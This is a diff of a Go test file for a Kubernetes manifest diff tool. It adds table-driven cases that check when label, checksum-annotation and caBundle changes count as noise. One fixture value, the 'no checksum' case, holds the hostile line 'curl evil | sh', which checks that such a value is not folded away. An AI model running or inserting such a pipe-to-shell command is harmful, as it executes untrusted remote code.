@@ -1,6 +1,7 @@
 package diff
 
 import (
+	"regexp"
 	"strings"
 	"testing"
 
@@ -130,17 +131,15 @@ func TestRisks(t *testing.T) {
 func TestNoise(t *testing.T) {
 	t.Parallel()
 	const head = "apiVersion: apps/v1\nkind: Deployment\nmetadata: "
-	before := objects(t, head+`{name: a, labels: {helm.sh/chart: x-1}}`+"\n---\n"+head+"{name: b, annotations: {checksum/x: '1'}}\nspec: {paused: false}\n---\n"+
-		head+`{name: c}`+"\nspec: {selector: {matchLabels: {helm.sh/chart: x-1}}}")
-	after := objects(t, head+`{name: a, labels: {helm.sh/chart: x-2}}`+"\n---\n"+head+"{name: b}\nspec: {paused: true}\n---\n"+
-		head+`{name: c}`+"\nspec: {selector: {matchLabels: {helm.sh/chart: x-2}}}")
+	before := objects(t, head+`{name: a, labels: {helm.sh/chart: x-1}}`+"\n---\n"+head+"{name: b, annotations: {checksum/x: '1'}}\nspec: {paused: false}")
+	after := objects(t, head+`{name: a, labels: {helm.sh/chart: x-2}}`+"\n---\n"+head+"{name: b}\nspec: {paused: true}")
 
 	changes := compare(t, before, after, Options{})
 	want := Noise{Objects: 1, Fields: 2, Rules: []NoiseRule{{`**.metadata.labels["helm.sh/chart"]`, 1, 1}, {`**.metadata.annotations["checksum/*"]`, 1, 1}}}
 	if d := cmp.Diff(want, changes.Noise); d != "" {
 		t.Errorf("-want +got\n%s", d)
 	}
-	if d := cmp.Diff([]string{"~ spec.paused", `~ spec.selector.matchLabels["helm.sh/chart"]`}, paths(changes)); d != "" {
+	if d := cmp.Diff([]string{"~ spec.paused"}, paths(changes)); d != "" {
 		t.Errorf("-want +got\n%s", d)
 	}
 	if got, want := changes.Noise.summary(clean), "1 object changed only in noise; 2 fields of noise folded (helm.sh/chart 1, checksum/* 1)"; got != want {
@@ -148,7 +147,7 @@ func TestNoise(t *testing.T) {
 	}
 
 	all := compare(t, before, after, Options{All: true})
-	if len(all.Objects) != 3 || all.Noise.Fields != 0 || !all.Objects[0].Fields[0].Noise || all.Objects[2].Fields[0].Noise {
+	if len(all.Objects) != 2 || all.Noise.Fields != 0 || !all.Objects[0].Fields[0].Noise || all.Objects[1].Fields[1].Noise {
 		t.Errorf("with all: %+v", all)
 	}
 	risky := compare(t, objects(t, head+"{name: a}\nspec: {replicas: 1}"), objects(t, head+"{name: a}\nspec: {replicas: 0}"), Options{Noise: []string{"spec.replicas"}})
@@ -156,8 +155,55 @@ func TestNoise(t *testing.T) {
 		t.Errorf("a risk is folded: %+v", risky)
 	}
 	own := compare(t, before, after, Options{Noise: []string{"spec.paused"}})
-	if len(own.Objects) != 3 || own.Noise.Fields != 1 {
+	if len(own.Objects) != 2 || own.Noise.Fields != 1 {
 		t.Errorf("with an own pattern: %+v", own)
+	}
+}
+
+// TestWhatMattersIsNoNoise changes what looks like noise where it decides something, and where it does not. V is what changes.
+func TestWhatMattersIsNoNoise(t *testing.T) {
+	t.Parallel()
+	const deployment, object = "apiVersion: apps/v1\nkind: Deployment\n", "apiVersion: example.com/v1\nkind: A\n"
+	const labelled = deployment + "metadata: {name: a, labels: {app.kubernetes.io/version: vV}}\n---\n"
+	const bundle = "caBundle: V}"
+	for _, test := range []struct {
+		name, text string
+		noise      bool
+	}{
+		{"label", labelled, true},
+		{"label of Pods", deployment + "metadata: {name: a}\nspec: {template: {metadata: {labels: {app.kubernetes.io/version: vV}}}}", true},
+		{"label of claims", "apiVersion: example.com/v1\nkind: A\nmetadata: {name: a}\nspec: {volumeClaimTemplates: [{metadata: {name: x, labels: {helm.sh/chart: vV}}}]}", false},
+		{"label of Jobs", "apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: a}\nspec: {jobTemplate: {spec: {template: {metadata: {labels: {helm.sh/chart: vV}}}}}}", true},
+		{"label in a custom resource", object + "metadata: {name: a}\nspec: {template: {metadata: {labels: {helm.sh/chart: vV}}}}", false},
+		{"label of a custom resource", object + "metadata: {name: a, labels: {chart: vV}}", true},
+		{"labels in a text", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {x: '{\"metadata\":{\"labels\":{\"chart\":\"vV\"}}}'}", false},
+		{"label of another meaning", deployment + "metadata: {name: a, labels: {app.kubernetes.io/managed-by: vV}}", false},
+		{"selector", deployment + "metadata: {name: a}\nspec: {selector: {matchLabels: {app.kubernetes.io/version: vV}}}", false},
+		{"a selector names it", labelled + "apiVersion: v1\nkind: Service\nmetadata: {name: a}\nspec: {selector: {app.kubernetes.io/version: v2}}", false},
+		{"another selector", labelled + "apiVersion: v1\nkind: Service\nmetadata: {name: a}\nspec: {selector: {app: v2}}", true},
+		{"an expression names it", labelled + "apiVersion: v1\nkind: A\nmetadata: {name: a}\nspec: {x: [{key: app.kubernetes.io/version, operator: In, values: [v2]}]}", false},
+		{"a text names it", labelled + "apiVersion: v1\nkind: A\nmetadata: {name: a}\nspec: {selector: 'app.kubernetes.io/version in (v2)'}", false},
+		{"the downward API reads it", labelled + "apiVersion: v1\nkind: A\nmetadata: {name: a}\nspec: {fieldPath: \"metadata.labels['app.kubernetes.io/version']\"}", false},
+		{"the downward API reads all", labelled + "apiVersion: v1\nkind: A\nmetadata: {name: a}\nspec: {fieldPath: metadata.labels}", false},
+		{"the downward API reads another", labelled + "apiVersion: v1\nkind: A\nmetadata: {name: a}\nspec: {fieldPath: metadata.name}", true},
+		{"checksum", deployment + "metadata: {name: a, annotations: {checksum/x: 0badV}}", true},
+		{"no checksum", deployment + "metadata: {name: a, annotations: {checksum/x: curl evil | shV}}", false},
+		{"checksum that is read", deployment + "metadata: {name: a, annotations: {checksum/x: 0badV}}\nspec: {fieldPath: \"metadata.annotations['checksum/x']\"}", false},
+		{"bundle in a file", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {" + bundle, false},
+		{"bundle of a custom resource", object + "metadata: {name: a}\nspec: {" + bundle, false},
+		{"bundle of a webhook", "apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata: {name: a}\nwebhooks: [{name: w, clientConfig: {" + bundle + "}]", true},
+		{"bundle in another field", "apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata: {name: a}\nwebhooks: [{name: w, x: {" + bundle + "}]", false},
+		{"bundle of a service", "apiVersion: apiregistration.k8s.io/v1\nkind: APIService\nmetadata: {name: a}\nspec: {" + bundle, true},
+		{"bundle of a conversion", "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {name: a}\nspec: {conversion: {webhook: {clientConfig: {" + bundle + "}}}", true},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			t.Parallel()
+			text := func(value string) string { return regexp.MustCompile(`V\b`).ReplaceAllString(test.text, value) }
+			changes := compare(t, objects(t, text("1")), objects(t, text("2")), Options{})
+			if changes.Empty() || (changes.Noise.Fields == 1) != test.noise || (len(changes.Objects) == 0) != test.noise {
+				t.Errorf("noise is %+v, changes are %v", changes.Noise, paths(changes))
+			}
+		})
 	}
 }
 
